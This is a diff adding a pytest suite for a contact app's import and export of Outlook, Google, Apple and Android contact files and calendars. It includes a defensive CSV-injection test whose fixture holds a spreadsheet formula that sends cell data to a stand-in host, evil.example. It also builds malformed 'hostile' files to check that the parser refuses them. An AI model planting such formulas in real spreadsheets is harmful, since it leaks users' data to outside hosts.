@@ -1,0 +1,361 @@
+"""Contacts in and out: real exports from Outlook, Google, Apple and Android, hostile files, CSV
+injection, and calendars that update rather than duplicate."""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from popdesk.domain.enums import Sector
+from popdesk.domain.text import fold
+from popdesk.errors import ValidationError
+from popdesk.interchange.csv_contacts import TRIGGERS, guess_mapping, read_csv
+from popdesk.services import Services
+from tests.builders import make_services, small_world
+
+FIXTURES = Path(__file__).parents[1] / "fixtures" / "import"
+
+
+@pytest.fixture
+def services(tmp_path: Path):
+    store, services = make_services(tmp_path / "s.db")
+    yield services
+    store.close(backup=False)
+
+
+def imported(services: Services, name: str, **kw) -> dict[str, object]:
+    plan = services.imports.read(FIXTURES / name, **kw)
+    services.imports.commit(plan)
+    return {c.name: c for c in services.partners.list_contacts()}
+
+
+def numbers(contact) -> list[tuple[str | None, str]]:
+    return [(p.label, p.number) for p in contact.phones]
+
+
+def test_an_outlook_csv_in_windows_1252_arrives_with_its_fields(services: Services) -> None:
+    plan = services.imports.read(FIXTURES / "outlook.csv")
+    assert plan.kind == "Outlook CSV" and plan.summary() == "2 new, 0 already in popdesk, 1 refused"
+    refused = next(r for r in plan.rows if r.status == "invalid")
+    assert refused.incoming.name == "Zoë Pritchard" and "not a phone number" in (
+        refused.reason or ""
+    )
+    assert plan.new_organisations == ["Bwrdd Iechyd Glanafon", "Ynys Borough Council"]
+    services.imports.commit(plan)
+    people = {c.name: c for c in services.partners.list_contacts()}
+    sian = people["Siân Evans"]
+    assert sian.organisation is not None and sian.organisation.name == "Ynys Borough Council"
+    assert sian.job_title == "ASB officer"
+    assert numbers(sian) == [("Work", "+442920180123"), ("Mobile", "+442920180456")]
+    assert sian.emails == ("sian.evans@council.example.org",)
+    assert sian.notes == (
+        "Prefers calls after 10am.\nCovers Riverside and Afon ward.\nDepartment: Community Safety"
+    )
+    assert "Dr Priya Raman" in people and "Zoë Pritchard" not in people
+    orgs = {o.name: o for o in services.partners.list_organisations()}
+    assert orgs["Ynys Borough Council"].sector is Sector.UNKNOWN
+
+
+def test_a_google_contacts_csv_with_several_values_in_a_cell(services: Services) -> None:
+    people = imported(services, "google.csv")
+    lukasz = people["Łukasz Nowak"]
+    assert numbers(lukasz) == [
+        ("Work", "+442920180789"),
+        ("Work", "+442920180790"),
+        ("Mobile", "+441614960555"),
+    ]
+    assert lukasz.job_title == "Tenancy manager" and lukasz.notes == "Met at the PACT meeting"
+    assert people["Dafydd ap Gruffudd"].emails == ("dafydd@fire.example.org",)
+
+
+def test_any_other_csv_goes_through_a_column_mapping(services: Services) -> None:
+    with pytest.raises(ValidationError, match="does not recognise these columns"):
+        services.imports.read(FIXTURES / "other-utf16.csv")
+    table = read_csv(FIXTURES / "other-utf16.csv")  # UTF-16 with a BOM, semicolons
+    mapping = guess_mapping(table.headers)
+    assert mapping == {
+        "name": "Full name",
+        "organisation": "Agency",
+        "job_title": "Role",
+        "phone": "Tel",
+        "email": "Email",
+    }
+    people = imported(services, "other-utf16.csv", mapping=mapping)
+    aoife = people["Aoife Ó Súilleabháin"]
+    assert aoife.organisation is not None and aoife.organisation.name == "Northgate Homes"
+    assert numbers(aoife) == [(None, "+441184960113")]
+
+
+@pytest.mark.parametrize(
+    ("name", "who", "organisation", "title", "phones", "emails", "notes"),
+    [
+        (
+            "outlook.vcf",
+            "Siân Evans",
+            "Ynys Borough Council",
+            "ASB officer",
+            [("Work", "+442920180123"), ("Mobile", "+442920180456")],
+            ("sian.evans@council.example.org",),
+            "Prefers calls after 10am.\nCovers Riverside and Afon ward.",
+        ),
+        (
+            "apple.vcf",
+            "Łukasz Nowak",
+            "Afon Housing Association",
+            "Tenancy manager",
+            [("Duty phone", "+442920180789"), ("Mobile", "+441614960555")],
+            ("lukasz.nowak@afon.example.org",),
+            "Chairs the tenants' panel. Best reached through the duty phone, which is staffed "
+            "9 to 5.",
+        ),
+        (
+            "google.vcf",
+            "Dafydd ap Gruffudd",
+            "Glanafon Fire and Rescue",
+            "Station manager",
+            [("Work", "+441134960778")],
+            ("dafydd@fire.example.org",),
+            None,
+        ),
+        (
+            "android.vcf",
+            "Aoife Ó Súilleabháin",
+            "Northgate Homes",
+            None,
+            [("Mobile", "+441184960113"), ("Work", "+441184960114")],
+            ("aoife@northgate.example.org",),
+            None,
+        ),
+        (
+            "v4.vcf",
+            "Gwenllïan Hughes",
+            "Glanafon Women's Aid",
+            "Chief officer",
+            [("Work", "+442920180611")],
+            ("gwen@womensaid.example.org",),
+            "Safeguarding lead for the borough",
+        ),
+    ],
+)
+def test_vcards_as_real_clients_write_them(
+    services: Services, name, who, organisation, title, phones, emails, notes
+) -> None:
+    contact = imported(services, name)[who]
+    assert contact.organisation is not None and contact.organisation.name == organisation
+    assert contact.job_title == title
+    assert numbers(contact) == phones
+    assert contact.emails == emails
+    assert contact.notes == notes
+
+
+def test_duplicates_are_found_by_email_phone_or_name_and_organisation(
+    services: Services, tmp_path: Path
+) -> None:
+    small_world(services)  # Siân Evans, 029 2018 0123, at Ynys Borough Council
+    plan = services.imports.read(FIXTURES / "outlook.vcf")
+    assert [(r.status, r.reason) for r in plan.rows] == [
+        ("duplicate", "same email as Siân Evans (Ynys Borough Council)")
+    ]
+    same_name = tmp_path / "same.csv"
+    same_name.write_text(
+        "Name,Organisation,Phones,Emails\n"
+        "SIAN EVANS,ynys borough council,,\n"
+        "Ceri Lloyd,,020 7946 0812,\n"
+        "Ceri Lloyd (again),,020 7946 0812,\n",
+        encoding="utf-8",
+    )
+    rows = services.imports.read(same_name).rows
+    assert [r.status for r in rows] == ["duplicate", "new", "duplicate"]
+    assert rows[0].reason == "same name and organisation as Siân Evans (Ynys Borough Council)"
+    assert rows[2].reason == "same phone number as an earlier entry in this file (3)"
+
+
+def test_an_import_is_all_or_nothing(services: Services, monkeypatch: pytest.MonkeyPatch) -> None:
+    plan = services.imports.read(FIXTURES / "google.csv")
+    from popdesk.services.partners import PartnerService
+
+    real = PartnerService.create_contact
+    calls = []
+
+    def failing(self, **kw):
+        calls.append(kw["name"])
+        if len(calls) == 2:
+            raise OSError("the disk went away")
+        return real(self, **kw)
+
+    monkeypatch.setattr(PartnerService, "create_contact", failing)
+    with pytest.raises(OSError):
+        services.imports.commit(plan)
+    assert services.partners.list_contacts() == []
+    assert services.partners.list_organisations() == []
+
+
+def hostile(tmp_path: Path) -> dict[str, Path]:
+    nested = tmp_path / "nested.vcf"
+    nested.write_text("BEGIN:VCARD\r\n" * 20_000 + "END:VCARD\r\n" * 20_000, encoding="utf-8")
+    huge = tmp_path / "huge.vcf"
+    with huge.open("wb") as handle:  # 200 MB, sparse: no need to write it all
+        handle.truncate(200 * 1024 * 1024)
+    png = tmp_path / "photo.vcf"
+    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
+    junk = tmp_path / "junk.csv"
+    junk.write_bytes(bytes((n * 37 + 11) % 256 for n in range(5000)))
+    lying = tmp_path / "lying.csv"
+    lying.write_bytes(b"\xff\xfe" + b"N\x00a\x00\x00\xd8")  # a UTF-16 BOM, then a broken pair
+    return {"nested": nested, "huge": huge, "png": png, "junk": junk, "lying": lying}
+
+
+@pytest.mark.parametrize(
+    ("case", "said"),
+    [
+        ("nested", "nested thousands deep"),
+        ("huge", "is 210 MB; popdesk takes a vCard files up to 20 MB"),
+        ("png", "is a PNG image, not a vCard file"),
+        ("junk", "binary data"),
+        ("lying", "says it is UTF-16 but is not"),
+    ],
+)
+def test_hostile_files_are_refused_with_one_message_and_nothing_changes(
+    services: Services, tmp_path: Path, case: str, said: str
+) -> None:
+    small_world(services)
+    before = (services.partners.list_contacts(), services.audit.count())
+    with pytest.raises(ValidationError) as refused:
+        services.imports.read(hostile(tmp_path)[case])
+    assert said in refused.value.message
+    assert (services.partners.list_contacts(), services.audit.count()) == before
+
+
+def test_no_exported_csv_cell_starts_a_formula_and_a_formula_note_round_trips(
+    services: Services, tmp_path: Path
+) -> None:
+    world = small_world(services)
+    services.partners.update_contact(
+        world["sian"], notes='=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    )
+    services.partners.update_contact(world["lukasz"], job_title="-Tenancy manager", notes="@once")
+    out = services.contact_exports.contacts(tmp_path / "contacts.csv", format="csv")
+    import csv
+
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
+    again_store, again = make_services(tmp_path / "other.db")
+    again.imports.commit(again.imports.read(out))
+    notes = {c.name: (c.notes, c.job_title) for c in again.partners.list_contacts()}
+    assert notes["Siân Evans"][0] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert notes["Łukasz Nowak"] == ("@once", "-Tenancy manager")
+    again_store.close(backup=False)
+
+
+NAMES = st.text(
+    alphabet=st.characters(codec="utf-8", categories=("L", "M", "N", "P", "Zs")),
+    min_size=1,
+    max_size=40,
+).filter(lambda s: s.strip() and s.strip() == s and "," not in s)
+NOTES = st.one_of(
+    st.none(),
+    st.text(
+        alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
+        min_size=1,
+        max_size=80,
+    ).filter(lambda s: s.strip() == s and s),
+    st.sampled_from(
+        ["=1+1", "+44 wrong", "-minus", "@at", "'quoted", "''twice", '=HYPERLINK("x")']
+    ),
+)
+PHONES = st.lists(
+    st.tuples(
+        st.sampled_from([None, "Office", "Mobile", "Duty phone"]),
+        st.integers(0, 999).map(lambda n: f"029 2018 {n:04d}"),
+    ),
+    max_size=3,
+    unique_by=lambda p: p[1],
+)
+
+
+@settings(
+    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    people=st.lists(
+        st.tuples(NAMES, st.one_of(st.none(), NAMES), NOTES, PHONES, st.booleans()),
+        min_size=1,
+        max_size=4,
+        unique_by=lambda p: fold(p[0]),  # the same name at one organisation is a duplicate
+    )
+)
+def test_export_then_import_gives_the_same_contacts(tmp_path_factory, people) -> None:
+    folder = tmp_path_factory.mktemp("roundtrip")
+    source_store, source = make_services(folder / "a.db")
+    org = source.partners.create_organisation(name="Ynys Borough Council", sector="health")
+    used: set[str] = set()
+    for n, (name, title, notes, phones, with_org) in enumerate(people):
+        phones = [p for p in phones if p[1] not in used]
+        used.update(p[1] for p in phones)
+        source.partners.create_contact(
+            name=name,
+            job_title=title,
+            notes=notes,
+            phones=phones,
+            emails=[f"person{n}@example.org"],
+            organisation_id=org.id if with_org else None,
+            preferred_channel="email" if n % 2 else None,
+            review_due=dt.date(2027, 1, 1 + n),
+        )
+    out = source.contact_exports.contacts(folder / "out.csv", format="csv")
+    target_store, target = make_services(folder / "b.db")
+    target.imports.commit(target.imports.read(out))
+
+    def shape(services: Services) -> list[tuple[object, ...]]:
+        return sorted(
+            (
+                c.name,
+                c.organisation.name if c.organisation else None,
+                c.job_title,
+                tuple((p.label, p.number) for p in c.phones),
+                c.emails,
+                c.notes,
+                c.preferred_channel,
+                c.lawful_basis,
+                c.review_due,
+            )
+            for c in services.partners.list_contacts()
+        )
+
+    try:
+        assert shape(target) == shape(source)
+    finally:
+        source_store.close(backup=False)
+        target_store.close(backup=False)
+
+
+def test_the_calendar_parses_and_a_second_export_keeps_the_same_uids(
+    tmp_path: Path,
+) -> None:
+    from icalendar import Calendar
+
+    from popdesk.services.demo import DemoService
+
+    store, services = make_services(tmp_path / "s.db")
+    DemoService(store.sessions).fill()
+    first = services.contact_exports.calendar(tmp_path / "one.ics")
+    second = services.contact_exports.calendar(tmp_path / "two.ics")
+
+    def events(path: Path) -> dict[str, object]:
+        cal = Calendar.from_ical(path.read_bytes())
+        return {str(e["UID"]): e for e in cal.walk("VEVENT")}
+
+    one, two = events(first), events(second)
+    assert one.keys() == two.keys() and len(one) > 20
+    meetings = [e for uid, e in one.items() if uid.startswith("meeting-")]
+    dues = [e for uid, e in one.items() if uid.startswith("action-")]
+    assert meetings and dues
+    assert all(str(e["SUMMARY"]).endswith(" meeting") for e in meetings)
+    assert all(str(e["SUMMARY"]).startswith("Due: ") for e in dues)
+    assert all(isinstance(e.decoded("DTSTART"), dt.date) for e in dues)
+    store.close(backup=False)
